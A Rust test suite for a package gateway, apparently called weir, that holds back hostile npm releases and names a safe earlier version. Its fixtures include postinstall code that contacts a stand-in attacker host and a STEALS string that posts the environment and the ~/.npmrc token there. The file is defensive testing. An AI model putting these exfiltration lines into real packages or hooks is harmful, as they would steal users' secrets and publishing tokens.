//! What an earlier release excuses in a later one: nothing, unless it was found fine here or has been out for
//! long. The second release of an attack is not for whoever asks first.

use serde_json::Value;
use weir_testing::{Package, Registry, Release};

use crate::support::{Gateway, NOW, NPM, World, output};

/// Talks to a host of its own when it is installed.
const COLLECTS: &str = "require('https').get('https://collect.evil.example/x')\n";

/// Talks to an ordinary host when it is used.
const ASKS: &str = "require('https').get('https://api.acme.example/x')\nmodule.exports = 1;\n";

/// Ten releases of a year ago by the usual maintainer, and what came since.
pub(crate) fn package(name: &str, since: impl IntoIterator<Item = Release>) -> Package {
    let past = (0..10).map(|number| {
        Release::new(format!("1.{number}.0"))
            .published(&format!("2025-{:02}-05T09:00:00.000Z", number + 1))
            .publisher("mara")
    });
    Package::new(name)
        .maintainer("mara")
        .releases(past)
        .releases(since)
}

/// A release of somebody new that runs something new.
fn hostile(version: &str, published: &str) -> Release {
    Release::new(version)
        .published(published)
        .publisher("eve")
        .file("x.js", COLLECTS)
        .script("postinstall", "node x.js")
}

pub(crate) fn before(package: Package) -> Registry {
    let registry = Registry::start();
    registry.set_now(NOW);
    registry.add(package);
    registry
}

pub(crate) fn asked(gateway: &Gateway, version: &str) -> (u16, Value) {
    let path = format!("/ledger-copy/-/ledger-copy-{version}.tgz");
    let reply = gateway.get(&path, &[("user-agent", NPM)]);
    match reply.status {
        200 => (200, Value::Null),
        status => (status, reply.json()["weir"]["instead"].clone()),
    }
}

/// Both releases of the attack are kept out of what ranges and tags resolve to.
fn assert_kept_out(gateway: &Gateway) {
    let document = gateway.packument(NPM, "ledger-copy");
    for version in ["1.10.0", "1.10.1"] {
        let marked = &document["versions"][version]["deprecated"];
        assert!(marked.is_string(), "{version}: {marked}");
    }
    assert_eq!(document["dist-tags"]["latest"], "1.9.0");
}

#[test]
fn the_first_to_ask_is_not_served_the_second_release_of_an_attack() {
    for (first, second) in [
        ("2026-11-18T11:00:00.000Z", "2026-11-18T11:10:00.000Z"),
        ("2026-11-18T11:00:00.000Z", "2026-11-18T18:00:00.000Z"),
        ("2026-11-14T11:00:00.000Z", "2026-11-18T18:00:00.000Z"),
    ] {
        let attack = [hostile("1.10.0", first), hostile("1.10.1", second)];
        let registry = before(package("ledger-copy", attack));
        // Whoever pins it, whoever resolves, and whoever only looks.
        let (one, other) = (World::new(), World::new());
        let pinned = one.serve(&registry);
        for version in ["1.10.1", "1.10.0", "1.10.1"] {
            let answer = asked(&pinned, version);
            assert_eq!(answer, (403, "1.9.0".into()), "{version} {first}");
        }
        let resolving = other.serve(&registry);
        assert_kept_out(&resolving);
        let looks = ["inspect", "ledger-copy@1.10.1"];
        let seen = World::new().run_before(&registry, &looks);
        assert!(matches!(seen.code, Some(3 | 4)), "{}", seen.text());
        assert!(!seen.says("Since 1.10.0"), "{}", seen.text());
    }
}

/// Whoever pins the second release of a package, minutes after the first, has it measured by nothing.
#[test]
fn the_first_release_of_a_package_does_not_excuse_the_second() {
    let begun = |version: &str, published: &str| {
        Release::new(version)
            .published(published)
            .script("postinstall", "node setup.js")
            .file("setup.js", "console.log('setting up');\n")
    };
    let releases = [
        begun("1.0.0", "2026-11-18T11:00:00.000Z"),
        begun("1.0.1", "2026-11-18T11:05:00.000Z"),
    ];
    let registry = before(Package::new("mongose").maintainer("eve").releases(releases));
    let gateway = World::new().serve(&registry);
    let answer = gateway.get("/mongose/-/mongose-1.0.1.tgz", &[("user-agent", NPM)]);
    assert_eq!(answer.status, 403, "{}", answer.reason);
    let seen = World::new().run_before(&registry, &["inspect", "mongose@1.0.1"]);
    assert!(
        seen.says("no release before it has been out for a week"),
        "{}",
        seen.text()
    );
}

/// Of a moment that is only asked about nothing is kept, and what was refused a moment ago still excuses nothing.
#[test]
fn so_it_is_at_a_moment_that_is_only_asked_about() {
    let attack = [
        hostile("1.10.0", "2026-11-10T20:00:00.000Z"),
        hostile("1.10.1", "2026-11-18T11:10:00.000Z"),
    ];
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let mut command = world.weir_asked(&registry, NOW);
    let both = ["ledger-copy@1.10.0", "ledger-copy@1.10.1"];
    let seen = output(command.args(["inspect", "--json"]).args(both));
    for line in seen.stdout.lines() {
        let found: Value = serde_json::from_str(line).unwrap();
        assert_eq!(found["decision"]["instead"], "1.9.0", "{found:#}");
    }
    assert_eq!(seen.stdout.lines().count(), 2, "{}", seen.text());
}

/// The first release has been out for ten days, and nobody had asked for it.
#[test]
fn a_verdict_is_taken_anew_when_what_it_was_measured_by_is_refused() {
    let attack = [
        hostile("1.10.0", "2026-11-10T20:00:00.000Z"),
        hostile("1.10.1", "2026-11-18T11:10:00.000Z"),
    ];
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let mut gateway = world.serve(&registry);
    // Served or not: what counts is what follows.
    let _ = asked(&gateway, "1.10.1");
    for version in ["1.10.0", "1.10.1"] {
        // Neither recommends the other.
        assert_eq!(asked(&gateway, version), (403, "1.9.0".into()), "{version}");
    }
    gateway.stop();
    let later = world.serve(&registry);
    assert_eq!(asked(&later, "1.10.1"), (403, "1.9.0".into()));
    // Where nobody asked before, resolving alone finds both.
    let untouched = World::new();
    let fresh = untouched.serve(&registry);
    assert_kept_out(&fresh);
    assert_eq!(asked(&fresh, "1.10.1"), (403, "1.9.0".into()));
}

#[test]
fn a_release_is_recommended_only_if_it_is_known_to_be_fine() {
    let young = [
        hostile("0.1.0", "2026-11-18T11:00:00.000Z"),
        hostile("0.1.1", "2026-11-20T11:10:00.000Z"),
    ];
    let package = Package::new("ledger-copy")
        .maintainer("eve")
        .releases(young);
    let registry = before(package);
    let world = World::new();
    let gateway = world.serve(&registry);
    // 0.1.0 is old enough, and nobody has looked at it.
    let (status, instead) = asked(&gateway, "0.1.1");
    assert_eq!((status, instead), (403, Value::Null));
    let refused = world.ledger(&["--event", "refused"]).pop().unwrap();
    let id = refused["block_id"].as_str().unwrap();
    let told = world.run(&["explain", id]);
    assert!(
        told.says("no release to use instead is named"),
        "{}",
        told.text()
    );
}

/// What the code of one release does at install time, the one before it may do as well, if it runs something too: it
/// is named once somebody has read it.
#[test]
fn an_old_release_with_a_hook_is_recommended_once_it_was_read() {
    let past = (0..10).map(|number| {
        Release::new(format!("1.{number}.0"))
            .published(&format!("2025-{:02}-05T09:00:00.000Z", number + 1))
            .publisher("mara")
            .file("x.js", "console.log('built');\n")
            .script("postinstall", "node x.js")
    });
    let stolen = Release::new("1.10.0")
        .published("2026-11-18T11:00:00.000Z")
        .publisher("eve")
        .file("x.js", STEALS)
        .script("postinstall", "node x.js");
    let package = Package::new("ledger-copy").maintainer("mara");
    let registry = before(package.releases(past).releases([stolen]));
    for (read, recommended) in [(false, Value::Null), (true, "1.9.0".into())] {
        let world = World::new();
        let gateway = world.serve(&registry);
        if read {
            assert_eq!(asked(&gateway, "1.9.0").0, 200);
        }
        assert_eq!(asked(&gateway, "1.10.0"), (403, recommended));
        // Ranges and tags go back to it all the same.
        let document = gateway.packument(NPM, "ledger-copy");
        assert_eq!(document["dist-tags"]["latest"], "1.9.0");
    }
}

/// A hook that does nothing yet, and what it runs once nobody looks: each is worth a notice, and what they come to
/// is held, in whatever order they are asked for. A week later the first is the package's past.
#[test]
fn an_attack_in_two_halves_is_measured_by_what_was_before_both() {
    let half = |version: &str, published: &str, code: &str| {
        Release::new(version)
            .published(published)
            .publisher("mara")
            .file("x.js", code)
            .script("postinstall", "node x.js")
    };
    let first = half("1.10.0", "2026-11-18T11:00:00.000Z", "console.log(1);\n");
    let second = half("1.10.1", "2026-11-18T11:10:00.000Z", COLLECTS);
    let registry = before(package("ledger-copy", [first, second]));
    for order in [["1.10.0", "1.10.1"], ["1.10.1", "1.10.0"]] {
        let world = World::new();
        let gateway = world.serve(&registry);
        for version in order {
            let status = if version == "1.10.1" { 403 } else { 200 };
            assert_eq!(asked(&gateway, version).0, status, "{version} of {order:?}");
        }
        let document = gateway.packument(NPM, "ledger-copy");
        assert_eq!(document["dist-tags"]["latest"], "1.10.0");
    }
}

/// Two patches of the usual maintainer within minutes, of which only the second has something that is worth a
/// notice.
#[test]
fn two_quick_patches_are_no_attack() {
    let first = Release::new("1.10.0")
        .published("2026-11-18T11:00:00.000Z")
        .publisher("mara");
    let second = Release::new("1.10.1")
        .published("2026-11-18T11:10:00.000Z")
        .publisher("mara")
        .file("index.js", ASKS);
    let registry = before(package("ledger-copy", [first, second]));
    let (one, other) = (World::new(), World::new());
    let pinned = one.serve(&registry);
    assert_eq!(asked(&pinned, "1.10.1").0, 200);
    let resolving = other.serve(&registry);
    let document = resolving.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.10.1");
    assert_eq!(asked(&resolving, "1.10.1").0, 200);
}

/// More young releases than are looked at one by one, all refused: the tag goes back to the last good one at once.
#[test]
fn a_burst_of_refused_releases_does_not_lead_the_tag_through_all_of_them() {
    let burst = (0..100).map(|number| {
        let published = format!(
            "2026-11-18T11:{:02}:{:02}.000Z",
            number / 2,
            number % 2 * 30
        );
        hostile(&format!("1.10.{number}"), &published)
    });
    let registry = before(package("ledger-copy", burst));
    let world = World::new();
    let gateway = world.serve(&registry);
    let document = gateway.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.9.0");
    assert_eq!(asked(&gateway, "1.9.0").0, 200);
}

/// Takes the environment and the token when it is installed.
const STEALS: &str = "require('https').request({host:'collect.evil.example',method:'POST'})\
    .end(JSON.stringify(process.env)+require('fs').readFileSync(require('os').homedir()+'/.npmrc'))\n";

/// Releases of the usual account, a day apart, with the same hook.
fn with_one_hook(first: &str, count: u32, code: impl Fn(u32) -> String) -> Vec<Release> {
    let first: jiff::Timestamp = first.parse().unwrap();
    let release = |number: u32| {
        let published = first + jiff::SignedDuration::from_hours(20 * i64::from(number));
        Release::new(format!("1.10.{number}"))
            .published_at(published)
            .publisher("mara")
            .file("x.js", code(number))
            .script("postinstall", "node x.js")
    };
    (0..count).map(release).collect()
}

/// More releases than are read ahead, all of the same: whoever resolves gets none of them, at the first time.
#[test]
fn a_takeover_of_many_releases_is_passed_over_whole() {
    for (first, count) in [
        ("2026-10-31T10:00:00Z", 6),
        ("2026-10-31T10:00:00Z", 9),
        ("2026-11-14T11:00:00Z", 6),
    ] {
        let attack = with_one_hook(first, count, |number| format!("{STEALS}// {number}\n"));
        let registry = before(package("ledger-copy", attack));
        let world = World::new();
        let gateway = world.serve(&registry);
        let document = gateway.packument(NPM, "ledger-copy");
        for number in 0..count {
            let version = format!("1.10.{number}");
            let marked = &document["versions"][&version]["deprecated"];
            assert!(marked.is_string(), "{version} of {count} {first}: {marked}");
        }
        assert_eq!(document["dist-tags"]["latest"], "1.9.0", "{count} {first}");
        let read = |number: &u32| {
            let file = format!("/ledger-copy/-/ledger-copy-1.10.{number}.tgz");
            !registry.requests_to(&file).is_empty()
        };
        assert!((0..count).filter(read).count() <= 6, "{count} {first}");
    }
}

/// Nobody has looked at the releases before: they have the hook of the refused one, and are not what to use instead.
#[test]
fn what_runs_the_same_at_install_is_not_named_instead() {
    let attack = with_one_hook("2026-10-31T10:00:00Z", 6, |_| STEALS.to_owned());
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.10.5"), (403, "1.9.0".into()));
    let seen = World::new().run_before(&registry, &["inspect", "ledger-copy@1.10.5"]);
    assert!(seen.says("use 1.9.0 instead"), "{}", seen.text());
}

/// Only the last does anything: those before it are read, and served as they were.
#[test]
fn a_hook_that_turns_hostile_leaves_what_was_before() {
    let code = |number: u32| match number {
        5 => STEALS.to_owned(),
        _ => "console.log('thank you');\n".to_owned(),
    };
    let registry = before(package(
        "ledger-copy",
        with_one_hook("2026-10-31T10:00:00Z", 6, code),
    ));
    let world = World::new();
    let gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.10.5").0, 403);
    let document = gateway.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.10.4");
    assert_eq!(asked(&gateway, "1.10.4").0, 200);
}

/// Writes into the repository that it is installed in.
const HOOKS: &str =
    "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n');\n";

/// How many releases a packument tells of as kept out.
fn count_kept_out(document: &Value) -> usize {
    let versions = document["versions"].as_object().unwrap();
    let kept_out = versions.values().filter(|it| it["deprecated"].is_string());
    kept_out.count()
}

/// What there has always been is not new in any release, however the first one is decided on.
#[test]
fn a_hook_since_the_first_release_holds_none_that_came_later() {
    let all = (0..21).map(|number| {
        let published = format!(
            "{}-{:02}-05T09:00:00.000Z",
            2020 + number / 4,
            1 + number % 4 * 3
        );
        Release::new(format!("2.{number}.0"))
            .published(&published)
            .publisher("mara")
            .file("postinstall.js", HOOKS)
            .file("v.js", format!("module.exports = {number};\n"))
            .script("postinstall", "node postinstall.js")
    });
    let package = Package::new("ledger-copy").maintainer("mara").releases(all);
    let registry = before(package);
    let world = World::new();
    let gateway = world.serve(&registry);
    let document = gateway.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "2.20.0");
    assert!(count_kept_out(&document) <= 6, "{document:#}");
    assert_eq!(asked(&gateway, "2.20.0").0, 200);
}

/// One release was bad, and its owners mended it: whatever came later is had.
#[test]
fn a_mended_package_loses_nothing_but_the_bad_release() {
    let code = |number: u32| match number {
        0 => STEALS.to_owned(),
        _ => format!("console.log('thank you {number}');\n"),
    };
    let registry = before(package(
        "ledger-copy",
        with_one_hook("2026-10-31T10:00:00Z", 9, code),
    ));
    let world = World::new();
    let gateway = world.serve(&registry);
    for _ in 0..2 {
        let document = gateway.packument(NPM, "ledger-copy");
        assert_eq!(document["dist-tags"]["latest"], "1.10.8");
        assert!(document["versions"]["1.10.0"]["deprecated"].is_string());
        assert_eq!(count_kept_out(&document), 1, "{document:#}");
        for number in (1..9).rev() {
            let version = format!("1.10.{number}");
            assert_eq!(asked(&gateway, &version).0, 200, "{version}");
        }
    }
}

/// The release that brought the hook is not among those that are looked at one by one, as there are too many: the
/// first who asks for the newest is refused, and the next gets the last good one.
#[test]
fn a_takeover_of_very_many_releases_costs_one_failed_try() {
    let attack = with_one_hook("2026-09-05T10:00:00Z", 70, |number| {
        format!("{STEALS}// {number}\n")
    });
    let registry = before(package("ledger-copy", attack));
    let world = World::new();
    let gateway = world.serve(&registry);
    let mut failed = 0;
    loop {
        let document = gateway.packument(NPM, "ledger-copy");
        let latest = document["dist-tags"]["latest"].as_str().unwrap();
        if asked(&gateway, latest).0 == 200 {
            assert_eq!((latest, count_kept_out(&document)), ("1.9.0", 70));
            break;
        }
        failed += 1;
        assert!(failed <= 1, "{latest}");
    }
}

/// Whoever meets it is told why and what to do; neither it nor another of its kind is what to use instead.
#[test]
fn what_is_held_unread_says_so_and_is_freed_by_a_look() {
    let code = |number: u32| match number {
        12 => "console.log('thank you');\n".to_owned(),
        _ => format!("{STEALS}// {number}\n"),
    };
    // More than a few requests have read ahead.
    let registry = before(package(
        "ledger-copy",
        with_one_hook("2026-10-25T10:00:00Z", 24, code),
    ));
    let world = World::new();
    let mut gateway = world.serve(&registry);
    let document = gateway.packument(NPM, "ledger-copy");
    let versions = document["versions"].as_object().unwrap().iter();
    let held: Vec<&str> = versions
        .filter(|(_, manifest)| manifest["deprecated"].is_string())
        .map(|(version, _)| version.as_str())
        .collect();
    assert!(held.contains(&"1.10.12"), "{held:?}");
    let reply = gateway.get("/ledger-copy/1.10.12", &[("user-agent", NPM)]);
    let body = reply.json();
    assert_eq!(reply.status, 403, "{body:#}");
    assert_eq!(body["weir"]["instead"], "1.9.0");
    let error = body["error"].as_str().unwrap();
    assert!(error.contains("nobody has looked at it yet"), "{error}");
    let told = world.run(&["explain", body["weir"]["block"].as_str().unwrap()]);
    assert!(
        told.says("`weir inspect ledger-copy@1.10.12` with the same data folder"),
        "{}",
        told.text()
    );
    assert!(!told.says("ask for it again"), "{}", told.text());
    gateway.stop();

    let seen = world.run_before(&registry, &["inspect", "ledger-copy@1.10.12"]);
    assert!(seen.says("it is served"), "{}", seen.text());
    let later = world.serve(&registry);
    let document = later.packument(NPM, "ledger-copy");
    let marked = &document["versions"]["1.10.12"]["deprecated"];
    assert!(!marked.is_string(), "{marked}");
    assert_eq!(asked(&later, "1.10.12").0, 200);
    assert_eq!(asked(&later, "1.10.2").0, 403);
}
